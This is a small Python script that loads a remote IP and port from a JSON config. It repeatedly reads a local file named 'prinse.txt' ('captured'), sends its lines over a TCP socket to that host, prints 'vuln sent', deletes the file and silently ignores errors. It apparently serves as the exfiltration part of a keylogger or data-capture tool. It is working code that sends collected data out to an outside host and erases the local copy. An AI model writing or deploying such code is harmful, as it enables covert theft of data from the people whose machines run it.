import socket
import json
import time
import os

data = ""

with open("k_config.json", 'r') as ftr:
    data = json.load(ftr)


remote_data = [data["remote"]["ip_to_send_vuln"], data["remote"]["port_to_send_vuln"]]
trigger_after_econds = data["events"]["send_vuln_after_seconds"]

def read_file(filename):
    ce_am_citit = []
    with open(filename, 'r') as ftr:
        for l in ftr:
            ce_am_citit.append(l.strip())

    return ce_am_citit

def remove_file(filename):
    os.remove(filename)



start_time = 0
while True:
    time.sleep(1)
    try:
        if time.time() - start_time > trigger_after_econds:
            start_time = time.time()
            prinse = read_file("prinse.txt")
            if len(prinse) < 1:
                continue

            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.connect((remote_data[0], remote_data[1]))

            string_to_send = ""

            for p in prinse:
                string_to_send += p + "\n"

            sock.send(bytes(string_to_send, "UTF-8"))
            print("vuln sent")
            remove_file("prinse.txt")

            sock.close()
    except:
        pass
